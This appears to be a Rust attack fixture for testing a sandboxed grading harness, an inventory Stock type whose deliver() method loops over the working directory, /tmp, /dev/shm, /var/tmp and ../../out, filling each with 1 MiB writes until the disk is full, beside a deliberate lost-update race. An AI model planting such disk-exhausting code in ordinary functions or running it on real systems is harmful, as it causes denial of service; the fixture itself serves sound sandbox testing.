//! exercise: ex16
//! attack: Running is bounded: it writes wherever it may until nothing is left.
//! expect: race | crashed | timed-out | tampered | wrong-answer
//! canary: attack_fills_the_disk

use std::fs::File;
use std::io::Write;
use std::sync::Mutex;

/// The stock as the exercise hands it out: each access is locked, and updates get lost.
pub struct Stock {
    pieces: Mutex<u32>,
}

impl Stock {
    pub fn new(pieces: u32) -> Self {
        Self {
            pieces: Mutex::new(pieces),
        }
    }

    pub fn on_hand(&self) -> u32 {
        *self.pieces.lock().unwrap()
    }

    pub fn deliver(&self, pieces: u32) {
        for folder in [".", "/tmp", "/dev/shm", "/var/tmp", "../../out"] {
            if let Ok(mut file) = File::create(format!("{folder}/attack_fills_the_disk")) {
                while file.write_all(&[1; 1 << 20]).is_ok() {}
            }
        }
        let on_hand = self.on_hand();
        *self.pieces.lock().unwrap() = on_hand + pieces;
    }

    pub fn sell(&self, pieces: u32) -> Option<u32> {
        let left = self.on_hand().checked_sub(pieces)?;
        *self.pieces.lock().unwrap() = left;
        Some(left)
    }

    pub fn top_up(&self, target: u32) -> u32 {
        let missing = target.saturating_sub(self.on_hand());
        self.deliver(missing);
        missing
    }
}
